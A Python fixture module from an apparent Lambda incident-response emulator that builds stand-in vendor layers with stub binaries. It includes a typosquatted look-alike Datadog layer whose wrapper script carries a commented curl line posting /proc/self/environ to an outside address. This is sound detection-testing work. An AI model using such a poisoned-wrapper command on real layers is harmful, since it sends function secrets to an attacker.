"""Vendor layers for the `busy` scenario, published from the vendors' own account ids.

The content is ours: small stand-ins shaped like the vendors' real layers (a documented
wrapper script, an extension file under `extensions/`) so the analysis meets them as it
would in a real account. The extension binaries are a few bytes of ELF header and a note,
never a working program. Account ids and layer names follow each vendor's documentation
(`lambda_ir/analyze/vendors.json` cites them).
"""

from __future__ import annotations

from dataclasses import dataclass

from lambda_ir.emulator.scenarios.code import build_zip

ELF_STUB = (
    b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"lambda-ir stand-in extension binary, not a program\n"
)


@dataclass(frozen=True)
class VendorLayer:
    """One vendor layer to publish: the vendor's account, the layer's name, its files."""

    key: str
    account: str
    name: str
    files: dict[str, bytes | str]
    runtimes: tuple[str, ...] = ("python3.12",)


def _wrapper(note: str) -> str:
    return f'#!/bin/bash\n# {note} (lambda-ir stand-in)\nexec "$@"\n'


VENDOR_LAYERS = (
    VendorLayer(
        "datadog-python",
        "464622532012",
        "Datadog-Python312",
        {
            "datadog_wrapper": _wrapper("Datadog's documented AWS_LAMBDA_EXEC_WRAPPER"),
            "python/datadog_lambda/__init__.py": '"""Datadog Lambda library stand-in."""\n',
        },
    ),
    VendorLayer(
        "datadog-extension",
        "464622532012",
        "Datadog-Extension",
        {"extensions/datadog-agent": ELF_STUB},
    ),
    VendorLayer(
        "insights",
        "580247275435",
        "LambdaInsightsExtension",
        {"extensions/cloudwatch_lambda_agent": ELF_STUB},
        ("python3.12", "nodejs20.x"),
    ),
    VendorLayer(
        "adot-python",
        "901920570463",
        "aws-otel-python-amd64-ver-1-25-0",
        {
            "otel-instrument": _wrapper("ADOT's documented AWS_LAMBDA_EXEC_WRAPPER"),
            "extensions/collector": ELF_STUB,
        },
    ),
    VendorLayer(
        "params-secrets",
        "177933569100",
        "AWS-Parameters-and-Secrets-Lambda-Extension",
        {"extensions/AWSParametersAndSecretsLambdaExtension": ELF_STUB},
    ),
)

# The typosquat: Datadog's layer name, published by an account that is not Datadog's.
LOOKALIKE_ACCOUNT = "999988887777"
LOOKALIKE = VendorLayer(
    "lookalike",
    LOOKALIKE_ACCOUNT,
    "Datadog-Python312",
    {
        "datadog_wrapper": (
            "#!/bin/bash\n# lambda-ir stand-in for a poisoned wrapper: would post the\n"
            "# environment to a documentation address, then start the runtime.\n"
            "# curl -s -d @/proc/self/environ https://198.51.100.250/c\n"
            'exec "$@"\n'
        ),
        "python/datadog_lambda/__init__.py": '"""Look-alike (lambda-ir stand-in)."""\n',
    },
)


def layer_zip(layer: VendorLayer) -> bytes:
    """The layer's package (deterministic)."""
    return build_zip(
        layer.files, executable=frozenset(p for p in layer.files if not p.startswith("python/"))
    )
